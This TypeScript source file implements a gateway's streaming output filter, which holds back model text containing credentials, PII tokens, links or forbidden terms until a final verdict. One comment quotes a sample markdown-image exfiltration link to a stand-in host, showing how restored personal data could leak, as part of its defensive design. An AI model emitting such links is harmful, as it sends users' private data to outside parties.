/**
 * Streaming output through the gateway (design: provisional stream, authoritative result).
 *
 * Model text arrives as tokens (PII still replaced by tokens). It is released to the caller a
 * whole word at a time, through the checks that can run on the fly, then through the PII
 * streaming restorer (which holds back a possible half token such as "[EMAIL_"):
 *  - words with a long token in them (16+ token characters: a key or a JWT, or just a path or an
 *    identifier) are released only after the credential checks of stage 7 (its patterns and the
 *    secretlint preset) find nothing in them and the 64 characters before them; a token lies whole
 *    inside its words, so that check decides it. Later words wait behind it, in order;
 *  - a credential found there, a PEM header, a URI with userinfo, a `password=`-style key (which
 *    can span lines or need context from far back) or a forbidden policy term switches the stream
 *    to HELD: nothing more is released until the final verdict; a check that fails holds too;
 *  - output validation and moderation then run on the complete text (stages 7 and 8).
 * Once stages 7–9 have passed (the answer is validated, moderated and restored), whatever was not
 * yet released is sent at once (`releaseFinal`), without waiting for the call record's commit; if
 * the released prefix no longer matches the final text (validation redacted inside it) the result
 * says `streamDiverged` and the caller must show `result.text` instead. A stage that blocks halts
 * the stream at once (nothing more, not a batch waiting for its check). If a verdict blocks, or the
 * call record cannot be written, the call rejects: text already released MAY be in the caller's
 * buffer, so a UI must render streamed text as provisional until the call settles, or stream with
 * `holdUntilVerdict: true`, which releases nothing before the call has settled (record durable);
 * gateway.stream() holds so by default when a governance pack applies.
 *
 * The caller's `onText` is the caller's own code: if it throws, or returns a promise that rejects,
 * the stream halts for good (the caller receives no more text), the failure is kept as its error's
 * name in `callbackFailed` (never its message, which may hold caller content), and the call goes on
 * to its verdict and record as if nothing happened: the model and the stages did their work.
 */
import { credentialSuspicion, findsCredential } from './output/index.ts';
import type { StreamRestorer } from './pii/index.ts';
import { LINK_WORD, opensLink } from './stages/pii-restore-url.ts';

export interface OutputStreamOptions {
  /** Release nothing before the final verdict (the whole answer arrives at once). */
  readonly holdUntilVerdict?: boolean;
  readonly forbiddenTerms?: readonly string[];
  /** The on-the-fly credential check of words with a long token (default: stage 7's own checks). */
  readonly credentialCheck?: (text: string) => Promise<boolean>;
  /** What the caller will see of a text: its PII tokens restored (default: the text as it is). */
  readonly restoreView?: (text: string) => string;
  /**
   * The caller's own signal: once it has aborted, nothing more is sent to `onText`, finish(true)
   * included (a kill switch, unlike the caller, still lets a call recorded ok deliver the rest).
   */
  readonly signal?: AbortSignal;
}

// Characters of the already-released text kept to catch a credential split across words (at
// least the longest forbidden term).
const LOOKBEHIND = 64;
/**
 * Least time between the starts of two on-the-fly checks; words arriving in between join one batch.
 * A check (≈ 0.2–1 ms, mostly secretlint) is CPU work on the thread that also drives the model, so
 * back-to-back checks slow generation itself: on tiny-test (≈ 2,500 tokens/s, a long token in most
 * sentences) a 25 ms spacing added ≈ 5 ms to a 100–180 ms call, 100 ms about nothing (bench/RESULTS.md).
 * A long token then waits at most this long before it appears: a few tokens of a real model.
 */
const CHECK_INTERVAL_MS = 100;

/** A value with a `then` method, as `await` would treat it. */
function isThenable(value: unknown): value is PromiseLike<unknown> {
  return (typeof value === 'object' || typeof value === 'function') && value !== null && typeof (value as { then?: unknown }).then === 'function';
}

/**
 * An error class's name as a caller's code names it (`TypeError`, `CallerUiError`): letters only,
 * ending in Error or Exception, so no digits, separators or `@` (no key, number or address) can
 * ride in it. Any other name is reported as `Error`.
 */
const ERROR_CLASS_NAME = /^[A-Z][A-Za-z]{0,56}(?:Error|Exception)$/;

/**
 * An error's name only (its message may hold the caller's content or a secret), and only when it
 * reads as an error class's name (ERROR_CLASS_NAME): any other name may be the caller's text, so `Error`.
 */
function errorName(error: unknown): string {
  // Everything inside the try: a Proxy's getPrototypeOf trap throws from `instanceof`, a getter from `.name`.
  try {
    if (!(error instanceof Error)) return error === null ? 'null' : typeof error;
    const name: unknown = error.name;
    return typeof name === 'string' && ERROR_CLASS_NAME.test(name) ? name : 'Error';
  } catch {
    return 'Error';
  }
}

/**
 * Text folded as stage 7's case-insensitive match folds it (a regular expression's `i` flag
 * without `u`): each UTF-16 unit to its upper case when that is one unit and does not turn a
 * non-ASCII character into an ASCII one. The Greek `μ` and the micro sign `µ` fold alike there,
 * and must here, or the stream would release a term stage 7 redacts. Same length as `text`.
 */
export function foldCase(text: string): string {
  // eslint-disable-next-line no-control-regex
  if (/^[\x00-\x7f]*$/.test(text)) return text.toUpperCase();
  let out = '';
  for (let i = 0; i < text.length; i++) out += foldUnit(text.charAt(i));
  return out;
}

/** Non-ASCII units already folded: a stream folds the same few letters again and again. */
const foldedUnits = new Map<string, string>();

function foldUnit(unit: string): string {
  if (unit.charCodeAt(0) < 128) return unit.toUpperCase();
  let folded = foldedUnits.get(unit);
  if (folded === undefined) {
    const upper = unit.toUpperCase();
    folded = upper.length === 1 && upper.charCodeAt(0) >= 128 ? upper : unit;
    // At most one entry a UTF-16 unit value: bounded by 65,536.
    foldedUnits.set(unit, folded);
  }
  return folded;
}

/** An ASCII word character: what stage 7's `\b` (a regular expression without `u`) reads as one. */
const ASCII_WORD = /[A-Za-z0-9_]/;

/**
 * The terms as a prefix tree, one UTF-16 unit an edge, with Aho–Corasick failure links: `hit` says
 * a term ends here or at a node the failure links reach (a term ending inside another's path).
 */
interface TermTrie {
  readonly next: Map<string, TermTrie>;
  /** Units from the root: the length of the text this node spells. */
  readonly depth: number;
  end: boolean;
  fail: TermTrie | undefined;
  hit: boolean;
}

const trieNode = (depth: number): TermTrie => ({ next: new Map(), depth, end: false, fail: undefined, hit: false });

function trieOf(terms: readonly string[]): TermTrie {
  const root = trieNode(0);
  for (const term of terms) {
    let node = root;
    for (const unit of term.split('')) {
      let child = node.next.get(unit);
      if (child === undefined) node.next.set(unit, (child = trieNode(node.depth + 1)));
      node = child;
    }
    node.end = true;
  }
  // Failure links, breadth first: each node's longest proper suffix that is also a path from the root.
  const queue: TermTrie[] = [];
  for (const child of root.next.values()) {
    child.fail = root;
    child.hit = child.end;
    queue.push(child);
  }
  for (let i = 0; i < queue.length; i++) {
    const node = queue[i] as TermTrie;
    for (const [unit, child] of node.next) {
      let fail = node.fail;
      while (fail !== undefined && !fail.next.has(unit)) fail = fail.fail;
      child.fail = fail?.next.get(unit) ?? root;
      child.hit = child.end || child.fail.hit;
      queue.push(child);
    }
  }
  return root;
}

/**
 * The stream's forbidden terms (trimmed and folded by the stream, blanks dropped) as one
 * Aho–Corasick automaton, built once per stream: each question reads the window once, whatever the
 * number of terms (`includes` per term was 500 scans of each window).
 */
export class TermMatcher {
  /** The longest term's length: no term can begin further back than this less one. */
  readonly longest: number;
  readonly #root: TermTrie;

  constructor(terms: readonly string[]) {
    this.longest = Math.max(0, ...terms.map((t) => t.length));
    this.#root = trieOf(terms);
  }

  /** The automaton's state after `unit`, from `node`. */
  #step(node: TermTrie, unit: string): TermTrie {
    let at = node;
    while (at !== this.#root && !at.next.has(unit)) at = at.fail ?? this.#root;
    return at.next.get(unit) ?? this.#root;
  }

  /**
   * Whether a term occurs in `folded` (foldCase'd) starting at or after `from` (the stream passes
   * the earliest start of a term that could end in its new words).
   */
  holds(folded: string, from: number): boolean {
    let node = this.#root;
    for (let i = from; i < folded.length; i++) {
      node = this.#step(node, folded.charAt(i));
      if (node.hit) return true;
    }
    return false;
  }

  /**
   * Length of the end of `folded` (foldCase'd) to hold back because it may begin a term, 0 when
   * nothing may. Term starts are stage 7's (policy.ts, wordPattern): a term that starts with an
   * ASCII word character starts where the unit before is none (after a space, `[`, `"`, `使用`, `é`);
   * any other term starts anywhere. The earliest start whose rest is a proper prefix of a term wins
   * (only the last `longest - 1` characters can hold one), and the hold-back reaches back to the
   * start of the white-space word it is in: a word (a `[TOKEN_1]`) is never cut in two, which the
   * on-the-fly credential check would see only half of.
   */
  prefixLength(folded: string): number {
    // The automaton's state after the window is its longest end that is a path of the tree; the
    // failure links then give every shorter such end, longest first: the first that may start a term
    // here (stage 7's starts) and that a term goes on past is the one.
    let node = this.#root;
    for (let i = Math.max(0, folded.length - (this.longest - 1)); i < folded.length; i++) node = this.#step(node, folded.charAt(i));
    for (; node !== this.#root; node = node.fail ?? this.#root) {
      const at = folded.length - node.depth;
      if (node.next.size === 0) continue;
      if (at > 0 && ASCII_WORD.test(folded.charAt(at - 1)) && ASCII_WORD.test(folded.charAt(at))) continue;
      let start = at;
      while (start > 0 && !/\s/.test(folded.charAt(start - 1))) start--;
      return folded.length - start;
    }
    return 0;
  }
}

export class OutputStream {
  readonly #onText: (text: string) => unknown;
  readonly #restorer: StreamRestorer;
  /** The caller's forbidden terms, trimmed and folded; undefined when there are none. */
  readonly #terms: TermMatcher | undefined;
  readonly #lookbehind: number;
  readonly #credentialCheck: (text: string) => Promise<boolean>;
  readonly #restoreView: (text: string) => string;
  #pending = '';
  #tail = '';
  /** #tail, foldCase'd (kept only when there are forbidden terms). */
  #foldedTail = '';
  /**
   * Words released or queued since the last link test, not yet read for a link (read only when a
   * word that restores arrives: an answer with no value to restore never pays for it).
   */
  #unread = '';
  /** A word of the answer so far opened a link: every later word that restores waits for stage 9. */
  #linkOpened = false;
  #released = '';
  #held: boolean;
  readonly #holdUntilVerdict: boolean;
  /** The final text has been compared with (and the rest sent after) what was released. */
  #settled = false;
  /** The call's signal aborted: only finish() may release anything now. */
  #halted = false;
  readonly #signal: AbortSignal | undefined;
  /** The name of the error the caller's `onText` threw (or its promise rejected with): nothing more is sent to it. */
  #callbackFailed: string | undefined;
  #heldOnTheFly = false;
  #diverged = false;
  /** Windows waiting for (or behind) a credential check, released in order. */
  #queue: Promise<void> = Promise.resolve();
  #queued = 0;
  /** The queued batch not yet started: words arriving meanwhile join it (one check for all of them). */
  #next: { words: string; text: string; check: boolean } | null = null;
  #lastCheckAt = -Infinity;
  /** The spacing wait of the batch about to be checked: halt() cancels it, so no timer outlives a block. */
  #spacing: { readonly timer: ReturnType<typeof setTimeout>; readonly done: () => void } | null = null;

  constructor(onText: (text: string) => void, restorer: StreamRestorer, options: OutputStreamOptions = {}) {
    this.#onText = onText;
    this.#restorer = restorer;
    this.#holdUntilVerdict = options.holdUntilVerdict === true;
    this.#held = this.#holdUntilVerdict;
    const terms = (options.forbiddenTerms ?? []).map((t) => foldCase(t.trim())).filter((t) => t !== '');
    this.#terms = terms.length > 0 ? new TermMatcher(terms) : undefined;
    this.#lookbehind = Math.max(LOOKBEHIND, this.#terms?.longest ?? 0);
    this.#credentialCheck = options.credentialCheck ?? findsCredential;
    this.#restoreView = options.restoreView ?? ((text) => text);
    this.#signal = options.signal;
  }

  /** Restored text the caller has received so far. */
  get released(): string {
    return this.#released;
  }

  /** True when an on-the-fly check stopped the stream until the verdict. */
  get heldOnTheFly(): boolean {
    return this.#heldOnTheFly;
  }

  /**
   * The caller's `onText` threw, or returned a promise that rejected: the name of that error (never
   * its message). The stream sent nothing more to it after that; the call itself went on.
   */
  get callbackFailed(): string | undefined {
    return this.#callbackFailed;
  }

  /** After finish(): the released prefix did not match the final text (the caller must replace it). */
  get diverged(): boolean {
    return this.#diverged;
  }

  /**
   * Model text as generated (tokens, not values). Only a chunk with a word break in it can release
   * anything, and only that chunk is searched for one: a long run without spaces costs its length
   * once, not once per chunk.
   */
  push(chunk: string): void {
    if (this.#held) return;
    const breakInChunk = Math.max(chunk.lastIndexOf(' '), chunk.lastIndexOf('\n'), chunk.lastIndexOf('\t'));
    const offset = this.#pending.length;
    this.#pending += chunk;
    if (breakInChunk < 0) return;
    // The last word break in #pending: nothing after a break in this chunk can hold another.
    const cut = offset + breakInChunk;
    let words = this.#pending.slice(0, cut + 1);
    let window = this.#tail + words;
    // Terms are matched as stage 7 matches them (foldCase): the window is folded once for both term checks.
    // foldCase folds unit by unit, so the released tail is folded once (#foldedTail), not with every window.
    const terms = this.#terms;
    let folded = terms !== undefined ? this.#foldedTail + foldCase(words) : '';
    // Read as stage 7 reads it: as written, and with invisible characters and JSON escapes undone.
    // A term ending in the new words starts at most (longest term − 1) units back into the tail; one
    // wholly in the tail was released, so checked, before.
    const suspicion = terms?.holds(folded, Math.max(0, this.#tail.length - (terms.longest - 1))) ? 'structural' : credentialSuspicion(window);
    if (suspicion === 'structural') {
      this.#holdOnTheFly();
      return;
    }
    // Words that may be the start of a forbidden term ("Project " of "Project Falcon") wait for the words after them.
    const keep = terms?.prefixLength(folded) ?? 0;
    if (keep > 0) {
      words = words.slice(0, Math.max(0, words.length - keep));
      window = this.#tail + words;
      folded = folded.slice(0, window.length);
    }
    this.#pending = this.#pending.slice(words.length);
    if (words === '') return;
    this.#tail = window.slice(-this.#lookbehind);
    if (terms !== undefined) this.#foldedTail = folded.slice(-this.#lookbehind);
    // A restored value can complete a credential the tokens did not show (stage 9 checks it again):
    // words that restore to other text wait for the credential check, read as the caller sees them.
    const restores = this.#restoreView(words) !== words;
    // A value restored inside or after a link (`![](https://evil.example/?d=[EMAIL_1])`, a link
    // whose `<…>` or quoted attribute runs on over several words) is stage 9's to judge against what
    // the caller wrote: nothing more is released on the fly, and the final text decides.
    if (!this.#linkOpened) this.#unread += words;
    if (restores && this.#opensLinkSoFar()) {
      this.#holdOnTheFly();
      return;
    }
    if (suspicion === 'none' && !restores && this.#queued === 0) {
      this.#emit(this.#restorer.push(words));
      return;
    }
    this.#enqueue(words, window, suspicion === 'token' || restores);
  }

  /** Settles when every queued window has been released or dropped (tests, and callers that need it). */
  get drained(): Promise<void> {
    return this.#queue;
  }

  /**
   * Queues `words` for release after the batch in flight. While a check runs, words keep arriving;
   * they join one batch, checked (when any of them needs it) as one text, so a fast model does not
   * queue one check per word.
   */
  #enqueue(words: string, window: string, check: boolean): void {
    const open = this.#next;
    if (open !== null) {
      open.words += words;
      open.text += words;
      open.check ||= check;
      return;
    }
    const batch = { words, text: window, check };
    this.#next = batch;
    this.#queued++;
    this.#queue = this.#queue
      .then(async () => {
        if (batch.check) {
          const wait = this.#lastCheckAt + CHECK_INTERVAL_MS - performance.now();
          if (wait > 0 && !this.#held) await this.#waitForSpacing(wait);
        }
        if (this.#next === batch) this.#next = null; // started: later words form the next batch
        if (this.#held) return;
        if (batch.check) {
          this.#lastCheckAt = performance.now();
          if (await this.#findsCredential(batch.text)) {
            this.#holdOnTheFly();
            return;
          }
        }
        if (!this.#held) this.#emit(this.#restorer.push(batch.words));
      })
      .catch(() => this.#holdOnTheFly()) // a check that fails holds (fail closed)
      .finally(() => {
        this.#queued--;
      });
  }

  #waitForSpacing(ms: number): Promise<void> {
    return new Promise((resolve) => {
      const done = (): void => {
        this.#spacing = null;
        resolve();
      };
      // unref: a batch dropped by the final text must not keep a finished process alive.
      const timer = setTimeout(done, ms);
      timer.unref();
      this.#spacing = { timer, done };
    });
  }

  /** Whether any word of the answer so far (this batch included) opens a link, as written or restored (stage 9's rule). */
  #opensLinkSoFar(): boolean {
    if (this.#linkOpened) return true;
    for (const m of this.#unread.matchAll(LINK_WORD)) {
      if (opensLink(m[0], this.#restoreView(m[0]))) {
        this.#linkOpened = true;
        break;
      }
    }
    this.#unread = '';
    return this.#linkOpened;
  }

  /** The credential check of a window as generated and, when it differs, as the caller sees it (values restored). */
  async #findsCredential(text: string): Promise<boolean> {
    if (await this.#credentialCheck(text)) return true;
    const shown = this.#restoreView(text);
    return shown !== text && this.#credentialCheck(shown);
  }

  #holdOnTheFly(): void {
    if (this.#held) return;
    this.#held = true;
    this.#heldOnTheFly = true;
  }

  /**
   * Stages 7–9 passed: `finalText` is the answer (sanitized, restored), short of its audit record.
   * Sends the rest now, unless the caller asked to hold everything until the call settles, or the
   * call was halted (then only its durable record decides, through finish()).
   */
  releaseFinal(finalText: string): void {
    if (!this.#holdUntilVerdict && !this.#halted) this.#settle(finalText);
  }

  /**
   * The call's signal aborted (a kill switch, the caller), or a stage blocked it (the pipeline calls
   * this the moment ctx.blocked is set): release nothing more until the call's record decides. A
   * batch waiting for its check spacing is woken now and dropped, so no timer outlives the stop.
   * finish(true) then sends the rest (the call was recorded as done before the stop took effect),
   * unless the caller's own signal (options.signal) aborted: then nothing, and `diverged` says the
   * released part is not the whole answer; finish(false) releases nothing.
   */
  halt(): void {
    this.#halted = true;
    this.#held = true;
    const spacing = this.#spacing;
    if (spacing !== null) {
      clearTimeout(spacing.timer);
      spacing.done();
    }
  }

  /**
   * After the call has settled. `finalText` is the authoritative response (sanitized, restored).
   * Returns true when the released prefix no longer matches it (the caller must replace it).
   */
  finish(passed: boolean, finalText: string): boolean {
    this.#held = true;
    if (!passed) {
      this.#settled = true; // nothing more, not even a final text offered later, is released
      return false;
    }
    this.#settle(finalText);
    return this.#diverged;
  }

  #settle(finalText: string): void {
    this.#held = true;
    if (this.#settled) return;
    this.#settled = true;
    if (!finalText.startsWith(this.#released)) this.#diverged = true;
    // The caller aborted, or its callback failed: the rest is not sent, so what it holds is not the
    // answer (result.text is).
    else if (this.#callerAborted || this.#callbackFailed !== undefined) this.#diverged = finalText !== this.#released;
    else this.#emit(finalText.slice(this.#released.length));
  }

  /** The caller's own signal aborted: it receives nothing from then on. */
  get #callerAborted(): boolean {
    return this.#signal?.aborted === true;
  }

  #emit(text: string): void {
    if (text === '' || this.#callerAborted || this.#callbackFailed !== undefined) return;
    this.#released += text;
    let returned: unknown;
    try {
      returned = this.#onText(text);
    } catch (error) {
      this.#failCallback(error);
      return;
    }
    // An async callback: its rejection is handled here, never left unhandled (which ends the process).
    try {
      if (isThenable(returned)) {
        returned.then(undefined, (error: unknown) => {
          this.#failCallback(error);
        });
      }
    } catch (error) {
      this.#failCallback(error); // a `then` that throws
    }
  }

  /** The caller's callback failed: it gets nothing more; the first failure is the one kept. */
  #failCallback(error: unknown): void {
    this.#callbackFailed ??= errorName(error);
    this.#held = true;
    const spacing = this.#spacing;
    if (spacing !== null) {
      clearTimeout(spacing.timer);
      spacing.done();
    }
  }

}
